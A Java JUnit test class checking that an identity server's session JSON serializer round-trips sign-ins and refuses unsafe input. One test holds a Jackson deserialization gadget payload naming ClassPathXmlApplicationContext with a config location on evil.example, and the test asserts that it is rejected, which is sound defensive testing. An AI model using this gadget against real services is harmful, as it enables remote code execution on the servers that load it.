package com.hubify.identity.server.session;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import com.hubify.identity.server.account.AccountId;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import org.junit.jupiter.api.Test;
import org.springframework.security.core.context.SecurityContextImpl;
import tools.jackson.core.JacksonException;

class SignInJsonTests {

    private static final SignInAuthentication SIGN_IN =
            new SignInAuthentication(new AccountId("user_2abc"), "session", Instant.parse("2026-04-14T10:00:00Z"));

    private final SessionJson json = new SessionJson();

    @Test
    void writesAndReadsASignIn() {
        byte[] bytes = json.serialize(new SecurityContextImpl(SIGN_IN));

        SecurityContextImpl read = (SecurityContextImpl) json.deserialize(bytes);

        assertThat(read).isNotNull();
        assertThat(read.getAuthentication()).isEqualTo(SIGN_IN);
        assertThat(new String(bytes, StandardCharsets.UTF_8)).startsWith("{");
    }

    /** Attack: whoever can write to the store names a class whose construction does harm. */
    @Test
    void buildsNoArbitraryClass() {
        String gadget = "{\"@class\":\"org.springframework.context.support.ClassPathXmlApplicationContext\","
                + "\"configLocation\":\"http://evil.example/beans.xml\"}";

        assertThatExceptionOfType(JacksonException.class)
                .isThrownBy(() -> SignInJson.mapper().readValue(gadget, Object.class));
        assertThat(json.deserialize(gadget.getBytes(StandardCharsets.UTF_8))).isNull();
    }

    @Test
    void whatCannotBeReadIsAbsent() {
        assertThat(json.deserialize("{\"@class\":\"gone.Class\"}".getBytes(StandardCharsets.UTF_8)))
                .isNull();
        assertThat(json.deserialize("not json".getBytes(StandardCharsets.UTF_8)))
                .isNull();
        assertThat(json.deserialize(null)).isNull();
    }
}
